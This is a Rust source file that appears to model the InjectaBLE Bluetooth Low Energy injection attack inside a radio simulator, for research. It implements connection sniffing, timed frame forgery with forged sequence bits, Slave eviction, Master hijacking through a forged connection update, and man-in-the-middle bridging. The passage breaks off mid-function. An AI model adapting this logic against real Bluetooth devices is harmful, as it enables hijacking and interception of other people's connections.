//! The InjectaBLE attacker: sniffer + injector + scenario engine.
//!
//! One radio node runs the whole offensive pipeline of the paper's §V:
//!
//! 1. **Synchronise** — catch `CONNECT_REQ` on an advertising channel and
//!    follow the connection (channel hopping, anchors, SN/NESN).
//! 2. **Inject** — at each connection event, transmit a forged frame at
//!    the very start of the Slave's widened receive window
//!    (`t = anchor + interval − w`, eq. 5), with SN/NESN per eq. 6.
//! 3. **Check** — infer success from the Slave's response (eq. 7).
//! 4. **Exploit** — scenario A (trigger a feature via ATT), B (evict and
//!    replace the Slave via `LL_TERMINATE_IND`), C (steal the Master via a
//!    forged `LL_CONNECTION_UPDATE_IND`) or D (C plus a co-located Slave
//!    impersonator = Man-in-the-Middle).

use ble_host::{l2cap, HostStack, SecurityAction};
use ble_invariants::{invariant_sn_nesn, invariant_window};
use ble_link::{
    timing, AdoptedConnection, ControlPdu, DataPdu, DeviceAddress, LinkLayer, Llid, Role,
    SleepClockAccuracy, UpdateRequest, ERR_REMOTE_USER_TERMINATED,
};
use ble_phy::{AccessFilter, Channel, NodeCtx, RadioEvent, RadioListener, RawFrame, TimerKey};
use ble_telemetry::{LinkRole, LossReason, SpanId, SpanKind, TelemetryEvent, Verdict};
use simkit::{Duration, Instant};

use crate::heuristic::{injection_succeeded, InjectionAttempt, ObservedResponse};
use crate::mitm::MitmHandoff;
use crate::resync::{ResyncController, ResyncPolicy};
use crate::stats::{AttackStats, AttemptOutcome};
use crate::tracked::{ConnectionSniffer, EventPlan, SnifferEvent, TrackedConnection};

const ADV_CRC_INIT: u32 = ble_phy::ADVERTISING_CRC_INIT;
const T_IFS: Duration = Duration::from_micros(150);

/// Assumed duration of the legitimate Master's (empty) frame when
/// estimating an anchor from the Slave's response timing: preamble + access
/// address + 2-byte header + CRC at the connection's PHY rate (80 µs on
/// LE 1M, 40 µs on LE 2M).
fn assumed_master_frame(phy: ble_phy::PhyMode) -> Duration {
    phy.airtime_for_pdu(2)
}

/// Extra lead time when opening a passive observation window.
const LISTEN_MARGIN: Duration = Duration::from_micros(150);

/// How long an observation window stays open past the predicted anchor.
const EVENT_GUARD: Duration = Duration::from_micros(2_500);

/// Standard deviation (µs) of direct response-timestamp measurement.
const TIMESTAMP_NOISE_US: f64 = 0.3;

/// Consecutive missed events before the connection is declared lost.
const MAX_MISSED_EVENTS: u32 = 24;

/// Timer purposes (low byte; high bits carry a generation counter).
const T_EVENT: u64 = 0xA0;
const T_CLOSE: u64 = 0xA1;
const T_SCAN_HOP: u64 = 0xA2;
const T_RESYNC: u64 = 0xA3;

/// Attacker tuning knobs.
#[derive(Debug, Clone)]
pub struct AttackerConfig {
    /// Only attack connections whose Slave has this address.
    pub target_slave: Option<DeviceAddress>,
    /// Standard deviation (µs) of the sniffer's anchor timestamp
    /// measurement error (radio timestamp quantisation + IRQ latency).
    pub anchor_noise_us: f64,
    /// Inject on every Nth connection event (1 = every event). Larger
    /// values interleave passive observation events, keeping the legitimate
    /// Master fed with Slave responses during long attack campaigns.
    pub inject_gap_events: u32,
    /// Bounded-retry resynchronisation policy (campaign length, backoff,
    /// retry budget). The default keeps the machinery dormant in healthy
    /// runs; tighten it for impaired-medium experiments.
    pub resync: ResyncPolicy,
}

impl Default for AttackerConfig {
    fn default() -> Self {
        AttackerConfig {
            target_slave: None,
            anchor_noise_us: 4.0,
            inject_gap_events: 1,
            resync: ResyncPolicy::default(),
        }
    }
}

/// What the attacker is trying to achieve.
pub enum Mission {
    /// Follow passively (sniffer mode).
    Observe,
    /// Scenario A (raw): inject an arbitrary Link-Layer payload until
    /// `wanted_successes` injections are confirmed.
    InjectRaw {
        /// LLID of the forged data PDU.
        llid: Llid,
        /// Payload bytes.
        payload: Vec<u8>,
        /// Stop after this many confirmed successes.
        wanted_successes: u32,
    },
    /// Scenario A: inject one ATT PDU (wrapped in L2CAP automatically).
    InjectAtt {
        /// The ATT PDU bytes (e.g. a Write Request).
        att: Vec<u8>,
    },
    /// Scenario B: evict the Slave with `LL_TERMINATE_IND`, then impersonate
    /// it towards the Master using this host stack (GATT profile).
    HijackSlave {
        /// Host stack served to the Master after the takeover.
        host: Box<HostStack>,
    },
    /// Scenario C: desynchronise the Master with a forged
    /// `LL_CONNECTION_UPDATE_IND` and take its place towards the Slave.
    HijackMaster {
        /// The forged new parameters.
        update: UpdateRequest,
        /// Events between the injected frame and the instant.
        instant_delta: u16,
        /// Host stack driving the Slave after the takeover.
        host: Box<HostStack>,
        /// ATT writes to issue once the takeover completes.
        on_takeover_writes: Vec<(u16, Vec<u8>)>,
        /// Optional MITM handoff: when set, scenario D — a co-located
        /// [`crate::MitmSlaveHalf`] adopts the Slave role towards the
        /// legitimate Master and intercepted traffic is bridged.
        mitm: Option<MitmHandoff>,
    },
}

/// Externally visible mission progress.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MissionState {
    /// No mission armed (passive).
    Inactive,
    /// Actively attempting injections.
    Injecting,
    /// Update injected; waiting for its instant (event counter).
    AwaitingInstant {
        /// The instant at which the forged update fires.
        instant: u16,
    },
    /// Terminate injected; watching whether the Slave fell silent.
    VerifyingTermination,
    /// The mission's injections are done (still following passively).
    Complete,
    /// A role has been hijacked; the inner Link Layer is in control.
    TakenOver,
}

#[derive(Clone, Copy)]
enum Phase {
    Idle,
    Scanning {
        channel_pos: usize,
    },
    /// Radio quiet between scan campaigns; waiting for T_RESYNC.
    BackingOff,
    /// Waiting for T_EVENT to open a passive window.
    ObserveArmed {
        plan: EventPlan,
    },
    /// Passive window open.
    Observing {
        plan: EventPlan,
        frames: u8,
    },
    /// Waiting for T_EVENT to transmit the injection.
    InjectArmed {
        plan: EventPlan,
    },
    /// Injection transmitted, radio still in TX.
    InjectSent {
        attempt: InjectionAttempt,
        plan: EventPlan,
    },
    /// Listening for the Slave's response to the injection.
    InjectListening {
        attempt: InjectionAttempt,
    },
    /// Hijacked: the takeover Link Layer owns the radio.
    TakenOver,
}

/// The attacker node. Implements [`RadioListener`]; drive it by adding it
/// to a simulation, arming a [`Mission`] and calling [`Attacker::start`].
pub struct Attacker {
    cfg: AttackerConfig,
    sniffer: ConnectionSniffer,
    mission: Mission,
    mission_state: MissionState,
    phase: Phase,
    conn: Option<TrackedConnection>,
    /// Attempt-invariant forged payload, built once when the mission is
    /// armed so each injection attempt encodes straight into an inline
    /// `Pdu` without touching the heap. `None` for missions whose bytes
    /// depend on fire-time connection state (`HijackMaster`'s instant).
    forged: Option<(Llid, Vec<u8>)>,
    stats: AttackStats,
    /// Payload data captured from Slave responses to successful injections.
    captured: Vec<Vec<u8>>,
    /// Pending terminate attempt awaiting verification (scenario B).
    pending_terminate: Option<InjectionAttempt>,
    quiet_events: u8,
    /// Instant armed in the most recently injected CONNECTION_UPDATE.
    armed_instant: Option<u16>,
    takeover_ll: Option<LinkLayer>,
    takeover_host: Option<Box<HostStack>>,
    mitm_handoff: Option<MitmHandoff>,
    events_since_injection: u32,
    timer_gen: u64,
    expected_gen: [u64; 4],
    resync: ResyncController,
    /// Open `AttackerScan` span: from campaign start to sniffer sync (or
    /// give-up). [`SpanId::DISABLED`] when closed or telemetry is off.
    span_scan: SpanId,
    /// Open `AttackerFollow` span: from sniffer sync to loss or takeover.
    span_follow: SpanId,
    /// Open `AttackerInject` span: one injection window, from the forged
    /// frame's transmission to its eq. 7 verdict.
    span_inject: SpanId,
}

impl Attacker {
    /// Creates an attacker with the given configuration.
    pub fn new(cfg: AttackerConfig) -> Self {
        let sniffer = match cfg.target_slave {
            Some(t) => ConnectionSniffer::for_slave(t),
            None => ConnectionSniffer::new(),
        };
        let resync = ResyncController::new(cfg.resync.clone());
        Attacker {
            cfg,
            sniffer,
            mission: Mission::Observe,
            mission_state: MissionState::Inactive,
            phase: Phase::Idle,
            conn: None,
            forged: None,
            stats: AttackStats::default(),
            captured: Vec::new(),
            pending_terminate: None,
            quiet_events: 0,
            armed_instant: None,
            takeover_ll: None,
            takeover_host: None,
            mitm_handoff: None,
            events_since_injection: 0,
            timer_gen: 0,
            expected_gen: [0; 4],
            resync,
            span_scan: SpanId::DISABLED,
            span_follow: SpanId::DISABLED,
            span_inject: SpanId::DISABLED,
        }
    }

    /// Arms a mission. Injection starts as soon as the sniffer is
    /// synchronised and has observed the Slave's sequence bits.
    pub fn arm(&mut self, mission: Mission) {
        self.mission_state = match mission {
            Mission::Observe => MissionState::Inactive,
            _ => MissionState::Injecting,
        };
        self.forged = match &mission {
            Mission::InjectRaw { llid, payload, .. } => Some((*llid, payload.clone())),
            Mission::InjectAtt { att } => {
                let frags = l2cap::fragment(l2cap::CID_ATT, att, l2cap::DEFAULT_LL_PAYLOAD);
                assert_eq!(
                    frags.len(),
                    1,
                    "injected ATT PDU must fit one Link-Layer frame"
                );
                frags.into_iter().next()
            }
            Mission::HijackSlave { .. } => Some((
                Llid::Control,
                ControlPdu::TerminateInd {
                    error_code: ERR_REMOTE_USER_TERMINATED,
                }
                .to_bytes(),
            )),
            Mission::Observe | Mission::HijackMaster { .. } => None,
        };
        self.mission = mission;
    }

    /// Redirects the sniffer at a different victim Slave. Call before the
    /// world runs (or between scan campaigns): the sniffer restarts from
    /// scratch, so any connection currently being followed is dropped. The
    /// multi-connection scenarios use this to aim the attack at the peer
    /// behind one specific Central connection slot.
    pub fn retarget_slave(&mut self, target: DeviceAddress) {
        self.cfg.target_slave = Some(target);
        self.sniffer = ConnectionSniffer::for_slave(target);
        self.conn = None;
    }

    /// Starts scanning for a connection to follow.
    pub fn start(&mut self, ctx: &mut NodeCtx<'_>) {
        self.resync.begin_campaign();
        self.begin_scan_span(ctx);
        self.phase = Phase::Scanning { channel_pos: 0 };
        self.scan(ctx, 0);
    }

    // ------------------------------------------------------------------
    // Phase spans (profiler attribution; no-ops when telemetry is off)
    // ------------------------------------------------------------------

    /// Opens a fresh `AttackerScan` span (closing any stale one first, so
    /// repeated campaigns never leak an open frame).
    fn begin_scan_span(&mut self, ctx: &mut NodeCtx<'_>) {
        ctx.span_exit(self.span_scan);
        self.span_scan = ctx.span_enter(SpanKind::AttackerScan, 0);
    }

    /// Closes the scan span (sniffer synced, or every retry spent).
    fn end_scan_span(&mut self, ctx: &mut NodeCtx<'_>) {
        ctx.span_exit(self.span_scan);
        self.span_scan = SpanId::DISABLED;
    }

    /// Closes the injection-window span, then the follow span (inner before
    /// outer so self-time attribution stays correct). Called on connection
    /// loss and takeover.
    fn end_follow_spans(&mut self, ctx: &mut NodeCtx<'_>) {
        ctx.span_exit(self.span_inject);
        self.span_inject = SpanId::DISABLED;
        ctx.span_exit(self.span_follow);
        self.span_follow = SpanId::DISABLED;
    }

    /// Whether every resynchronisation retry has been spent (the harness
    /// should fail the trial rather than keep waiting).
    pub fn resync_exhausted(&self) -> bool {
        self.resync.is_exhausted()
    }

    /// External restart of the recovery loop (e.g. after the harness
    /// bounced the Central to force a fresh `CONNECT_REQ`). Refills the
    /// retry budget and opens a new scan campaign — unless the attacker is
    /// already following a connection or mid-campaign, in which case the
    /// running schedule is left untouched.
    pub fn restart_resync(&mut self, ctx: &mut NodeCtx<'_>) {
        if self.conn.is_some() || matches!(self.phase, Phase::Scanning { .. } | Phase::TakenOver) {
            return;
        }
        self.resync.reset();
        self.resync.begin_campaign();
        self.begin_scan_span(ctx);
        self.scan(ctx, 0);
    }

    /// Attack statistics so far.
    pub fn stats(&self) -> &AttackStats {
        &self.stats
    }

    /// Slave-response payloads captured after successful injections.
    pub fn captured(&self) -> &[Vec<u8>] {
        &self.captured
    }

    /// Adjusts the injection pacing (see
    /// [`AttackerConfig::inject_gap_events`]).
    pub fn set_inject_gap(&mut self, events: u32) {
        self.cfg.inject_gap_events = events.max(1);
    }

    /// Mission progress.
    pub fn mission_state(&self) -> MissionState {
        self.mission_state
    }

    /// The tracked connection, if synchronised.
    pub fn connection(&self) -> Option<&TrackedConnection> {
        self.conn.as_ref()
    }

    /// The host stack driving a hijacked role, once taken over.
    pub fn takeover_host(&self) -> Option<&HostStack> {
        self.takeover_host.as_deref()
    }

    /// Mutable access to the takeover host (e.g. to issue more requests).
    pub fn takeover_host_mut(&mut self) -> Option<&mut HostStack> {
        self.takeover_host.as_deref_mut()
    }

    /// The hijacked-role Link Layer, once taken over.
    pub fn takeover_ll(&self) -> Option<&LinkLayer> {
        self.takeover_ll.as_ref()
    }

    // ------------------------------------------------------------------
    // Timers
    // ------------------------------------------------------------------

    fn arm_from(&mut self, ctx: &mut NodeCtx<'_>, reference: Instant, delay: Duration, p: u64) {
        self.timer_gen += 1;
        self.expected_gen[(p - T_EVENT) as usize] = self.timer_gen;
        ctx.set_timer_local_from(reference, delay, TimerKey(p | (self.timer_gen << 8)));
    }

    fn timer_purpose(&self, key: TimerKey) -> Option<u64> {
        let p = key.0 & 0xFF;
        if !(T_EVENT..=T_RESYNC).contains(&p) {
            return None;
        }
        if self.expected_gen[(p - T_EVENT) as usize] == key.0 >> 8 {
            Some(p)
        } else {
            None
        }
    }

    // ------------------------------------------------------------------
    // Scanning
    // ------------------------------------------------------------------

    fn scan(&mut self, ctx: &mut NodeCtx<'_>, channel_pos: usize) {
        // The first campaign starts at node bootstrap, which can precede the
        // harness attaching telemetry sinks; pick the scan span up on the
        // next hop once telemetry is live (no-op when it never is).
        if self.span_scan.is_disabled() {
            self.span_scan = ctx.span_enter(SpanKind::AttackerScan, 0);
        }
        self.phase = Phase::Scanning { channel_pos };
        ctx.stop_rx();
        ctx.start_rx(
            Channel::ADVERTISING[channel_pos],
            AccessFilter::One(ble_phy::AccessAddress::ADVERTISING),
            ADV_CRC_INIT,
        );
        let now = ctx.now();
        self.arm_from(ctx, now, Duration::from_millis(11), T_SCAN_HOP);
    }

    fn connection_lost(&mut self, ctx: &mut NodeCtx<'_>) {
        self.end_follow_spans(ctx);
        self.stats.record_connection_lost();
        self.conn = None;
        self.pending_terminate = None;
        self.quiet_events = 0;
        if let MissionState::AwaitingInstant { .. } | MissionState::VerifyingTermination =
            self.mission_state
        {
            self.mission_state = MissionState::Injecting;
        }
        self.resync.begin_campaign();
        self.begin_scan_span(ctx);
        self.scan(ctx, 0);
    }

    /// A scan campaign's hop budget ran out: back off (radio quiet) before
    /// the next campaign, or give up once retries are exhausted.
    fn campaign_expired(&mut self, ctx: &mut NodeCtx<'_>) {
        ctx.stop_rx();
        let backoff = self.resync.campaign_failed();
        let campaigns = self.resync.campaigns();
        ctx.emit(|| TelemetryEvent::ResyncFailed { campaigns, backoff });
        match backoff {
            Some(delay) => {
                self.phase = Phase::BackingOff;
                let now = ctx.now();
                self.arm_from(ctx, now, delay, T_RESYNC);
            }
            None => {
                self.phase = Phase::Idle;
                self.end_scan_span(ctx);
            }
        }
    }

    // ------------------------------------------------------------------
    // Event scheduling
    // ------------------------------------------------------------------

    fn wants_injection(&self) -> bool {
        matches!(self.mission_state, MissionState::Injecting)
            && !matches!(self.mission, Mission::Observe)
    }

    fn schedule_event(&mut self, ctx: &mut NodeCtx<'_>) {
        // Takeover trigger: the forged update's instant has arrived.
        if let MissionState::AwaitingInstant { instant } = self.mission_state {
            let ready = self
                .conn
                .as_ref()
                .map(|c| c.next_event_counter == instant)
                .unwrap_or(false);
            if ready {
                self.perform_master_takeover(ctx, instant);
                return;
            }
        }
        let wants_injection = self.wants_injection();
        let Some(conn) = self.conn.as_mut() else {
            return;
        };
        let plan = conn.plan_next();
        self.events_since_injection = self.events_since_injection.saturating_add(1);
        let paced = self.events_since_injection >= self.cfg.inject_gap_events;
        let inject =
            wants_injection && paced && conn.has_slave_seq() && plan.window_extra.is_zero();
        let anchor = conn.last_anchor;
        if inject {
            self.events_since_injection = 0;
            // Transmit at the very start of the Slave's widened window
            // (eq. 5): firing after the predicted anchor would land the
            // forged frame behind the legitimate Master's.
            let delay = plan.delay_from_anchor.saturating_sub(plan.widening);
            invariant_window!(
                delay,
                plan.delay_from_anchor,
                "injection fires at window start"
            );
            self.phase = Phase::InjectArmed { plan };
            self.arm_from(ctx, anchor, delay, T_EVENT);
        } else {
            let lead = plan.widening + LISTEN_MARGIN;
            let reference = anchor.saturating_sub(lead);
            invariant_window!(reference, anchor, "observe window opens before the anchor");
            self.phase = Phase::ObserveArmed { plan };
            self.arm_from(ctx, reference, plan.delay_from_anchor, T_EVENT);
        }
    }

    fn open_observe_window(&mut self, ctx: &mut NodeCtx<'_>, plan: EventPlan) {
        let Some(conn) = self.conn.as_ref() else {
            return;
        };
        ctx.stop_rx();
        ctx.start_rx(
            plan.channel,
            AccessFilter::One(conn.params.access_address),
            conn.params.crc_init,
        );
        let close = plan.widening * 2 + LISTEN_MARGIN + plan.window_extra + EVENT_GUARD;
        let now = ctx.now();
        self.phase = Phase::Observing { plan, frames: 0 };
        self.arm_from(ctx, now, close, T_CLOSE);
    }

    /// Forges the payload for missions whose bytes depend on fire-time
    /// connection state. Attempt-invariant missions are pre-forged once in
    /// [`Attacker::arm`] and never reach this path.
    fn injection_payload(&mut self) -> (Llid, Vec<u8>) {
        match &self.mission {
            Mission::Observe
            | Mission::InjectRaw { .. }
            | Mission::InjectAtt { .. }
            | Mission::HijackSlave { .. } => {
                unreachable!("attempt-invariant missions are forged at arm time")
            }
            Mission::HijackMaster {
                update,
                instant_delta,
                ..
            } => {
                let conn = self.conn.as_ref().expect("injecting requires a connection");
                // The event being injected into has counter
                // next_event_counter - 1 (plan_next already consumed it).
                let current = conn.next_event_counter.wrapping_sub(1);
                let instant = current.wrapping_add(*instant_delta);
                self.armed_instant = Some(instant);
                (
                    Llid::Control,
                    ControlPdu::ConnectionUpdateInd {
                        win_size: update.win_size,
                        win_offset: update.win_offset,
                        interval: update.interval,
                        latency: update.latency,
                        timeout: update.timeout,
                        instant,
                    }
                    .to_bytes(),
                )
            }
        }
    }

    fn fire_injection(&mut self, ctx: &mut NodeCtx<'_>, plan: EventPlan) {
        // Fire-time-dependent missions (HijackMaster's instant) forge fresh
        // bytes; everything else reuses the buffer built at arm time, so a
        // repeated attempt never touches the heap.
        let fresh = if self.forged.is_none() {
            Some(self.injection_payload())
        } else {
            None
        };
        let conn = self.conn.as_ref().expect("injecting requires a connection");
        let (sn_a, nesn_a) = conn.forge_seq();
        invariant_sn_nesn!(u8::from(sn_a), u8::from(nesn_a));
        let (llid, payload): (Llid, &[u8]) = match fresh.as_ref().or(self.forged.as_ref()) {
            Some((llid, p)) => (*llid, p),
            None => unreachable!("armed missions always carry a payload"),
        };
        let pdu = DataPdu::encode_pdu(llid, nesn_a, sn_a, false, payload);
        let frame = RawFrame::new(conn.params.access_address, pdu, conn.params.crc_init);
        ctx.stop_rx();
        // One injection window per attempt: transmit → listen → verdict. A
        // stale window (an attempt whose verdict never arrived) closes here.
        ctx.span_exit(self.span_inject);
        self.span_inject =
            ctx.span_enter(SpanKind::AttackerInject, u32::from(plan.channel.index()));
        let tx = ctx.transmit(plan.channel, frame);
        invariant_window!(tx.start, tx.end, "injected frame airtime");
        // Lead time: how far ahead of the predicted anchor the forged frame
        // starts — the eq. 5 head-start the attacker races the Master with.
        let predicted_anchor = conn.last_anchor + plan.delay_from_anchor;
        let lead = predicted_anchor
            .checked_duration_since(tx.start)
            .unwrap_or(Duration::ZERO);
        ctx.emit(|| TelemetryEvent::InjectionAttempt {
            channel: plan.channel.index(),
            lead,
        });
        let attempt = InjectionAttempt {
            t_a: tx.start,
            d_a: tx.end - tx.start,
            sn_a,
            nesn_a,
        };
        self.phase = Phase::InjectSent { attempt, plan };
    }

    // ------------------------------------------------------------------
    // Injection outcome handling
    // ------------------------------------------------------------------

    fn record_attempt(&mut self, ctx: &mut NodeCtx<'_>, outcome: AttemptOutcome) {
        let now = ctx.now();
        self.stats.record(now, outcome);
        let verdict = match outcome {
            AttemptOutcome::Success => Verdict::Success,
            AttemptOutcome::Rejected => Verdict::Rejected,
            AttemptOutcome::NoResponse => Verdict::NoResponse,
        };
        let attempts_total = u64::from(self.stats.attempts_total);
        ctx.emit(|| TelemetryEvent::HeuristicVerdict {
            verdict,
            attempts_total,
        });
        ctx.span_exit(self.span_inject);
        self.span_inject = SpanId::DISABLED;
    }

    fn handle_injection_response(
        &mut self,
        ctx: &mut NodeCtx<'_>,
        attempt: InjectionAttempt,
        frame: &ble_phy::ReceivedFrame,
    ) {
        // Scenario B: any Slave activity right after a terminate injection
        // means the eviction did not happen.
        if matches!(self.mission, Mission::HijackSlave { .. }) {
            self.record_attempt(ctx, AttemptOutcome::Rejected);
            self.note_response_frame(ctx, &attempt, frame);
            self.schedule_event(ctx);
            return;
        }
        if !frame.crc_ok {
            self.record_attempt(ctx, AttemptOutcome::Rejected);
            self.schedule_event(ctx);
            return;
        }
        let Ok(pdu) = DataPdu::from_bytes(&frame.pdu) else {
            self.record_attempt(ctx, AttemptOutcome::Rejected);
            self.schedule_event(ctx);
            return;
        };
        let noise_ns = (ctx.rng().normal(0.0, TIMESTAMP_NOISE_US) * 1_000.0) as i64;
        let response = ObservedResponse {
            t_s: frame.start.offset_ns(noise_ns),
            sn_s: pdu.header.sn,
            nesn_s: pdu.header.nesn,
        };
        // Observed IFS error: how far the Slave's response deviates from the
        // ideal T_IFS after our injected frame (eq. 7's timing term).
        let delta_us = response
            .t_s
            .signed_delta_ns(attempt.expected_response_start()) as f64
            / 1_000.0;
        ctx.emit(|| TelemetryEvent::IfsDelta { delta_us });
        let success = injection_succeeded(&attempt, &response);
        if let Some(conn) = self.conn.as_mut() {
            conn.observe_slave_seq(pdu.header.sn, pdu.header.nesn);
            if success {
                // Our own frame became the anchor; we know its time exactly.
                conn.observe_anchor(attempt.t_a);
            } else {
                // The Slave likely anchored the legitimate Master's frame.
                let est = frame
                    .start
                    .saturating_sub(T_IFS + assumed_master_frame(ctx.phy()));
                conn.observe_anchor(est);
            }
        }
        if success {
            if !pdu.payload.is_empty() {
                self.captured.push(pdu.payload.clone());
            }
            self.record_attempt(ctx, AttemptOutcome::Success);
            self.on_injection_confirmed();
        } else {
            self.record_attempt(ctx, AttemptOutcome::Rejected);
        }
        self.schedule_event(ctx);
    }

    /// Updates tracker state from a frame observed while expecting an
    /// injection response (used on rejected scenario-B attempts).
    fn note_response_frame(
        &mut self,
        ctx: &mut NodeCtx<'_>,
        _attempt: &InjectionAttempt,
        frame: &ble_phy::ReceivedFrame,
    ) {
        let _ = ctx;
        if !frame.crc_ok {
            return;
        }
        let phy = ctx.phy();
        if let (Ok(pdu), Some(conn)) = (DataPdu::from_bytes(&frame.pdu), self.conn.as_mut()) {
            conn.observe_slave_seq(pdu.header.sn, pdu.header.nesn);
            let est = frame
                .start
                .saturating_sub(T_IFS + assumed_master_frame(phy));
            conn.observe_anchor(est);
        }
    }

    fn on_injection_confirmed(&mut self) {
        match &self.mission {
            Mission::InjectRaw {
                wanted_successes, ..
            } => {
                if self.stats.successes() >= *wanted_successes as usize {
                    self.mission_state = MissionState::Complete;
                }
            }
            Mission::InjectAtt { .. } => {
                self.mission_state = MissionState::Complete;
            }
            Mission::HijackMaster { .. } => {
                let instant = self.armed_instant.expect("set when payload was built");
                self.mission_state = MissionState::AwaitingInstant { instant };
            }
            Mission::HijackSlave { .. } | Mission::Observe => {}
        }
    }

    // ------------------------------------------------------------------
    // Takeovers
    // ------------------------------------------------------------------

    fn perform_master_takeover(&mut self, ctx: &mut NodeCtx<'_>, _instant: u16) {
        let Mission::HijackMaster {
            update,
            host,
            on_takeover_writes,
            mitm,
            ..
        } = std::mem::replace(&mut self.mission, Mission::Observe)
        else {
            return;
        };
        let conn = self.conn.take().expect("takeover requires a connection");
        let old_interval_delay = conn.next_plain_delay();
        let offset = timing::transmit_window_offset(update.win_offset);
        let mut new_params = conn.params;
        new_params.win_size = update.win_size;
        new_params.win_offset = update.win_offset;
        new_params.hop_interval = update.interval;
        new_params.latency = update.latency;
        new_params.timeout = update.timeout;

        let sn = conn.nesn_s.unwrap_or(false);
        let nesn = !conn.sn_s.unwrap_or(false);
        let adoption = AdoptedConnection {
            role: Role::Master,
            params: new_params,
            peer: conn.slave,
            next_event_counter: conn.next_event_counter,
            last_unmapped_channel: conn.csa_unmapped(),
            csa2: conn.uses_csa2(),
            last_anchor: conn.last_anchor,
            sn,
            nesn,
            first_event_delay: Some(old_interval_delay + offset),
        };
        let mut ll = LinkLayer::new(
            DeviceAddress::new([0xAD; 6], ble_link::AddressType::Random),
            SleepClockAccuracy::Ppm20,
        );
        let mut host = host;
        ll.adopt_connection(ctx, adoption, host.as_mut());
        for (handle, value) in on_takeover_writes {
            host.write(handle, value);
        }
        if let Some(handoff) = mitm {
            // Scenario D: hand the old timeline to the co-located slave half.
            handoff.lock().slave_adoption = Some(AdoptedConnection {
                role: Role::Slave,
                params: conn.params,
                peer: conn.master,
                next_event_counter: conn.next_event_counter,
                last_unmapped_channel: conn.csa_unmapped(),
                csa2: conn.uses_csa2(),
                last_anchor: conn.last_anchor,
                sn: !conn.sn_s.unwrap_or(false),
                nesn: conn.nesn_s.unwrap_or(false),
                first_event_delay: Some(old_interval_delay),
            });
            self.mitm_handoff = Some(handoff);
        }
        self.takeover_ll = Some(ll);
        self.takeover_host = Some(host);
        self.mission_state = MissionState::TakenOver;
        self.phase = Phase::TakenOver;
        self.end_follow_spans(ctx);
        ctx.emit(|| TelemetryEvent::Takeover {
            role: LinkRole::Master,
        });
    }

    fn perform_slave_takeover(&mut self, ctx: &mut NodeCtx<'_>) {
        let Mission::HijackSlave { host } = std::mem::replace(&mut self.mission, Mission::Observe)
        else {
            return;
        };
        let conn = self.conn.take().expect("takeover requires a connection");
        let adoption = AdoptedConnection {
            role: Role::Slave,
            params: conn.params,
            peer: conn.master,
            next_event_counter: conn.next_event_counter,
            last_unmapped_channel: conn.csa_unmapped(),
            csa2: conn.uses_csa2(),
            last_anchor: conn.last_anchor,
            // The Master's next frame is unacknowledged and pending: accept
            // it as new data and transmit what the Master expects.
            sn: conn.nesn_m.unwrap_or(false),
            nesn: conn.sn_m.unwrap_or(false),
            first_event_delay: None,
        };
        let mut ll = LinkLayer::new(
            DeviceAddress::new([0xAD; 6], ble_link::AddressType::Random),
            SleepClockAccuracy::Ppm20,
        );
        let mut host = host;
        ll.adopt_connection(ctx, adoption, host.as_mut());
        self.takeover_ll = Some(ll);
        self.takeover_host = Some(host);
        self.mission_state = MissionState::TakenOver;
        self.phase = Phase::TakenOver;
        if let Some(att) = self.pending_terminate.take() {
            let _ = att;
        }
        self.end_follow_spans(ctx);
        ctx.emit(|| TelemetryEvent::Takeover {
            role: LinkRole::Slave,
        });
    }

    fn pump_takeover(&mut self, ctx: &mut NodeCtx<'_>) {
        let (Some(ll), Some(host)) = (self.takeover_ll.as_mut(), self.takeover_host.as_mut())
        else {
            return;
        };
        while let Some(action) = host.take_action() {
            match action {
                SecurityAction::StartEncryption { key, rand, ediv } => {
                    if ll.is_connected()
                        && ll.connection_info().map(|i| i.role) == Some(Role::Master)
                    {
                        ll.request_encryption(ctx, key, rand, ediv);
                    }
                }
            }
        }
        // Scenario D bridging: forward intercepted (rewritten) writes to the
        // real Slave.
        if let Some(handoff) = &self.mitm_handoff {
            let mut shared = handoff.lock();
            while let Some((handle, value, acked)) = shared.to_slave.pop_front() {
                if acked {
                    host.write(handle, value);
                } else {
                    host.write_command(handle, &value);
                }
            }
        }
    }

    // ------------------------------------------------------------------
    // Event dispatch
    // ------------------------------------------------------------------

    fn handle_observe_frame(&mut self, ctx: &mut NodeCtx<'_>, frame: ble_phy::ReceivedFrame) {
        let Phase::Observing { plan, frames } = &mut self.phase else {
            return;
        };
        let plan = *plan;
        let index = *frames;
        *frames += 1;
        let Some(conn) = self.conn.as_mut() else {
            return;
        };
        if index % 2 == 0 {
            // Master frame: anchor of the event.
            if index == 0 {
                let noise_ns = (ctx.rng().normal(0.0, self.cfg.anchor_noise_us) * 1_000.0) as i64;
                let observed = frame.start.offset_ns(noise_ns);
                // Prediction error before the tracker re-anchors: observed
                // minus predicted (positive = the real anchor came late).
                let predicted = conn.last_anchor + plan.delay_from_anchor;
                let error_us = observed.signed_delta_ns(predicted) as f64 / 1_000.0;
                ctx.emit(|| TelemetryEvent::AnchorPrediction { error_us });
                conn.observe_anchor(observed);
            }
            if frame.crc_ok {
                if let Ok(pdu) = DataPdu::from_bytes(&frame.pdu) {
                    conn.observe_master_seq(pdu.header.sn, pdu.header.nesn);
                    if pdu.header.llid == Llid::Control {
                        if let Ok(ctrl) = ControlPdu::from_bytes(&pdu.payload) {
                            if conn.observe_master_control(&ctrl) {
                                ctx.emit(|| TelemetryEvent::SnifferLost {
                                    reason: LossReason::Terminated,
                                });
                                self.connection_lost(ctx);
                                return;
                            }
                        }
                    }
                }
            }
        } else if frame.crc_ok {
            // Slave frame.
            if let Ok(pdu) = DataPdu::from_bytes(&frame.pdu) {
                conn.observe_slave_seq(pdu.header.sn, pdu.header.nesn);
            }
        }
        let _ = plan;
    }

    fn close_observe_window(&mut self, ctx: &mut NodeCtx<'_>) {
        let Phase::Observing { frames, .. } = self.phase else {
            return;
        };
        ctx.stop_rx();
        if frames == 0 {
            if let Some(conn) = self.conn.as_mut() {
                conn.missed_event();
                if conn.missed_streak > MAX_MISSED_EVENTS {
                    ctx.emit(|| TelemetryEvent::SnifferLost {
                        reason: LossReason::MissedEvents,
                    });
                    self.connection_lost(ctx);
                    return;
                }
            }
        }
        // Scenario B verification: is the Slave still answering?
        if self.mission_state == MissionState::VerifyingTermination {
            if frames >= 2 {
                // Slave alive: the terminate did not land.
                self.record_attempt(ctx, AttemptOutcome::Rejected);
                self.pending_terminate = None;
                self.quiet_events = 0;
                self.mission_state = MissionState::Injecting;
            } else if frames >= 1 {
                // Master transmitted, Slave silent.
                self.quiet_events += 1;
                if self.quiet_events >= 2 {
                    self.record_attempt(ctx, AttemptOutcome::Success);
